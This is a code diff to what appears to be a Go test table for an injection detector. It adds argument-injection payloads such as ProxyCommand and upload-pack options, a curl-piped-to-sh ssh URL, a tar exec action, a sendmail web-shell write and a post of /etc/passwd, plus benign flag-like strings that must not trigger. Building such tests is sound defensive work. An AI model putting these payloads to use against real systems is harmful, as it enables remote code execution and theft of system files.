@@ -36,6 +36,15 @@ func init() {
 		attackEntry{lQ, "v", "a='l';cu$a\\r\\l attacker.example", "cmdi", encURL},
 		attackEntry{lQ, "q", "python3.11 -c 'import pty;pty.spawn(\"/bin/sh\")'", "cmdi", encAll},
 		attackEntry{lQ, "host", "x;python3.12 -m http.server 8000", "cmdi", encAll},
+		// Argument injection: options that run a command or write a
+		// file, where a back end passes the value to a program.
+		attackEntry{lQ, "repo", "-oProxyCommand=touch /tmp/pwned", "argument-injection", encAll},
+		attackEntry{lJ, "repo", "ssh://-oProxyCommand=curl${IFS}x.example|sh/x", "argument-injection", 0},
+		attackEntry{lJ, "repo", "--upload-pack=touch /tmp/pwned", "argument-injection", 0},
+		attackEntry{lQ, "file", "--checkpoint-action=exec=sh shell.sh", "argument-injection", encURL},
+		attackEntry{lF, "email", "\"a\\\" -oQ/tmp/ -X/var/www/html/shell.php b\"@example.com", "argument-injection", encURL},
+		attackEntry{lQ, "url", "--post-file=/etc/passwd", "argument-injection", encURL},
+		attackEntry{lJ, "args", "--gpu-launcher=\"id>/tmp/x\"", "argument-injection", 0},
 		// commix's time-based probe; assignments, subshells, groups and
 		// compound commands before the command; a substitution as a
 		// command's argument; code glued to a flag; the shell's own
@@ -110,6 +119,12 @@ func init() {
 		// Substitutions and expansions quoted in text, templates and
 		// build files.
 		corpusEntry{lJ, "body", "Use $(pwd) to get the current directory"},
+		// Sort keys, build flags, output formats, temperatures.
+		corpusEntry{lQ, "sort", "-created_at"},
+		corpusEntry{lJ, "args", "--no-cache --pull"},
+		corpusEntry{lQ, "format", "--output=table"},
+		corpusEntry{lJ, "note", "-5 degrees, feels like -10"},
+		corpusEntry{lJ, "doc", "git config core.editor vim"},
 		// Prose with parentheses and keywords after a semicolon, a
 		// shell line with a condition, a variable's name.
 		corpusEntry{lQ, "q", "Hello; (id est) the point"},
